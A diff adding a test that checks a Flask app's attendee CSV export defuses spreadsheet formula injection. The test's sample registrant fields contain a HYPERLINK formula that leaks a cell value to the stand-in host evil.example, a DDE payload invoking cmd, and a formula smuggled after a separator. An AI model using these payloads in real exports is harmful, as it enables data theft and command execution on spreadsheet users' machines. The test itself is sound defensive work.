@@ -211,6 +211,22 @@ def test_attendees_export_as_csv(
     assert rows[0]["email"] == registration.email
 
 
+def test_the_attendees_export_defuses_formulas_whatever_the_separator(
+    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
+) -> None:
+    create_registration(
+        event,
+        company_name='=HYPERLINK("evil.example?leak="&C2;"Open")',
+        position="@SUM(1+1)*cmd|' /C calc'!A0",
+        name="Eve; =1+2",
+    )
+    response = staff_client.get(f"/staff/events/{event.id}/attendees.csv")
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    assert row["company"] == '\'=HYPERLINK("evil.example?leak="&C2;"Open")'
+    assert row["position"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["name"] == "Eve;' =1+2"
+
+
 def test_staff_add_a_registrant_by_hand(staff_client: FlaskClient, event: Event) -> None:
     response = submit_form(
         staff_client,
